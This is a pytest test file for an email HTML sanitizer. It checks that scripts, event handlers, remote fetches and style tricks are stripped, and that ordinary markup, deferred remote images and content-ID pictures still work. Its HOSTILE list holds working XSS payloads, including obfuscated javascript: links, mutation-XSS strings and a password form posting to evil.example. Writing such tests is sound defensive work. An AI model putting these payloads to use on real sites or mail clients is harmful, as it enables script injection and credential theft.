"""HTML from outside: nothing runs, nothing is fetched, what is harmless is still to be read."""

from html.parser import HTMLParser

import pytest

from cec.channels.email import cleaning


class Inspector(HTMLParser):
    """Writes down what a browser could run or fetch."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = []

    def handle_starttag(self, tag, attrs):
        if tag not in cleaning.TAGS:
            self.found.append(tag)
        for name, value in attrs:
            if is_dangerous(name, "".join((value or "").split()).lower()):
                self.found.append((tag, name, value))


def is_dangerous(name, value):
    if name.startswith("on") or name in {"id", "name", "class", "srcset", "background", "formaction", "srcdoc"}:
        return True
    if name == "href":
        return not value.startswith(("http://", "https://", "mailto:", "tel:"))
    if name == "src":
        return not value.startswith(("cid:", "data:image/"))
    if name == "style":
        return any(word in value for word in ("url(", "expression", "position", "@import", "behavior", "\\"))
    return name == "data-remote" and not value.startswith(("http://", "https://"))


def dangers(cleaned):
    inspector = Inspector()
    inspector.feed(cleaned or "")
    inspector.close()
    return inspector.found


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='\u2003javascript:alert(1)'>x</a>",
    "<a href='\u00a0\u200bjava\nscript:alert(1)'>x</a>",
    "<a href='&#14; javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='/centre/people'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src='https://evil.example'></iframe>",
    "<form action='https://evil.example'><input name=password><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<base href='https://evil.example'>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<p style='background-color:u\\72l(https://evil.example)'>x</p>",
    "<p style='position:fixed;top:0'>x</p>",
    "<style>@import 'https://evil.example'</style>",
    "<table background='https://evil.example/x.png'><tr><td>x</table>",
    "<img srcset='https://evil.example/x.png 1x'>",
    "<img src='http://127.0.0.1/'>",
    "<img src='//evil.example/x.png'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img data-remote='javascript:alert(1)'>",
    "<video src='https://evil.example' autoplay></video>",
    "<object data='https://evil.example'></object>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<a id=location name=cookie href='https://x.example'>x</a>",
]


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_runs_and_nothing_is_fetched(html):
    assert dangers(cleaning.clean(html)) == []


@pytest.mark.parametrize("html", HOSTILE)
def test_what_is_clean_stays_clean(html):
    once = cleaning.clean(html)

    assert dangers(cleaning.clean(once)) == []


def test_the_inspector_sees_danger():
    assert len([html for html in HOSTILE if dangers(html)]) > len(HOSTILE) - 4


def test_ordinary_html_is_kept():
    html = '<p style="color:red;position:fixed">Hi <b>there</b> <a href="https://shop.example/a?b=1&amp;c">shop</a></p>'

    cleaned = cleaning.clean(html)

    assert cleaned == (
        '<p style="color:red">Hi <b>there</b> <a href="https://shop.example/a?b=1&amp;c"'
        ' target="_blank" rel="noopener noreferrer nofollow">shop</a></p>'
    )


def test_remote_pictures_wait_until_somebody_asks():
    cleaned = cleaning.clean('<img src="https://shop.example/x.png?a=1&b=2" alt="x"><img src="//cdn.example/y.png">')

    assert "src=" not in cleaned
    assert cleaning.has_remote_pictures(cleaned)
    assert '<img src="https://shop.example/x.png?a=1&amp;b=2"' in cleaning.with_pictures(
        cleaned, lambda _: None, remote=True
    )
    assert " src=" not in cleaning.with_pictures(cleaned, lambda _: None)


def test_pictures_inside_the_mail_are_found_by_their_content_id():
    cleaned = cleaning.clean('<img src="cid:logo@x"><img src="CID:gone">')

    assert cleaning.content_ids(cleaned) == {"logo@x", "gone"}
    shown = cleaning.with_pictures(cleaned, {"logo@x": '/files/1?a=1&b="'}.get)
    assert shown == '<img src="/files/1?a=1&amp;b=&quot;"><img data-missing="">'


def test_text_that_looks_like_a_picture_does_not_become_one():
    cleaned = cleaning.clean('<p>src="cid:x" data-remote="https://evil.example/"&lt;img src=x&gt;</p>')

    shown = cleaning.with_pictures(cleaned, lambda _: "/files/1", remote=True)

    assert dangers(shown) == []


def test_what_is_too_large_or_too_deep_is_not_shown():
    assert cleaning.clean("x" * (cleaning.LONGEST + 1)) is None
    assert cleaning.clean("<div>" * 100_000) is None
    assert cleaning.clean("<p>x</p>" * 20_000) is not None
